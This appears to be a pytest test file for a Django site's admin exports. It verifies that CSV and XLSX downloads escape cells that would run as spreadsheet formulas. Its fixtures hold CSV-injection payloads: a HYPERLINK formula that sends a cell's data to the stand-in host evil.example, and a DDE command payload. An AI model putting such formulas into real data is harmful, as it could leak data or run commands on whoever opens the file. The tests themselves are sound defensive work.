"""Every spreadsheet export of the admin opens safely in a spreadsheet
program: cells that would run as formulas are written as text (OWASP's CSV
injection advice). Security probe: a public registration named
=HYPERLINK(...) came out of the CSV unchanged."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from bbg_site.exports import as_text
from bbg_site.models import ContactMessage, Subscriber
from events.models import Registration
from tests.factories import make_event, make_event_index, make_standard_page

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&C2,"Click for details")'
CMD = "=cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+49 30 123", "'+49 30 123"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Ana Petrović", "Ana Petrović"),
        ("", ""),
        (42, 42),
    ],
)
def test_cells_that_would_run_as_formulas_become_text(value, written):
    assert as_text(value) == written


def rows_of(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.fixture
def staff(client, django_user_model):
    user = django_user_model.objects.create_superuser("comms", "c@example.org", "long-password-1")
    client.force_login(user)
    return client


@pytest.fixture
def hostile_registration(site):
    """A public registration whose name and organisation are formulas."""
    event = make_event(
        make_event_index(site.home),
        "launch",
        "Report launch",
        start=timezone.now() + datetime.timedelta(days=5),
    )
    return Registration.objects.create(
        event=event,
        name=HYPERLINK,
        email="x@example.org",
        organisation=CMD,
        language="en",
        status="confirmed",
        consent_text="yes",
        token="t1",
    )


def test_registrations_csv(staff, hostile_registration):
    rows = rows_of(staff.get(reverse("registrations:index") + "?export=csv"))
    assert rows[1][1] == "'" + HYPERLINK
    assert rows[1][3] == "'" + CMD


def test_registrations_xlsx_stores_them_as_text(staff, hostile_registration):
    response = staff.get(reverse("registrations:index") + "?export=xlsx")
    content = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = load_workbook(io.BytesIO(content)).active
    cell = sheet.cell(row=2, column=2)
    assert cell.value == HYPERLINK
    assert cell.data_type == "s"  # a string, not a formula


def test_subscribers_csv(staff):
    Subscriber.objects.create(
        email="=1+1@example.org", language="en", status="confirmed", consent_text="yes"
    )
    rows = rows_of(staff.get(reverse("subscribers:index") + "?export=csv"))
    assert rows[1][0] == "'=1+1@example.org"


def test_contact_messages_csv(staff):
    ContactMessage.objects.create(
        name=CMD, email="a@example.org", subject="@SUM(1)", message="-1+2", language="sq"
    )
    rows = rows_of(staff.get(reverse("contact_messages:index") + "?export=csv"))
    assert rows[0][:5] == ["Received", "Name", "Email", "Subject", "Message"]
    assert rows[1][1:5] == ["'" + CMD, "a@example.org", "'@SUM(1)", "'-1+2"]


def test_translation_status_csv(staff, site):
    make_standard_page(
        site.home,
        title={"en": "=HYPERLINK(1)", "sq": "=HYPERLINK(1)", "sr-latn": "=HYPERLINK(1)"},
        slug={"en": "formula", "sq": "formula", "sr-latn": "formula"},
    )
    rows = rows_of(staff.get(reverse("editorial_translation_status") + "?export=csv"))
    titles = [row[0] for row in rows[1:]]
    assert "'=HYPERLINK(1)" in titles
    assert "=HYPERLINK(1)" not in titles
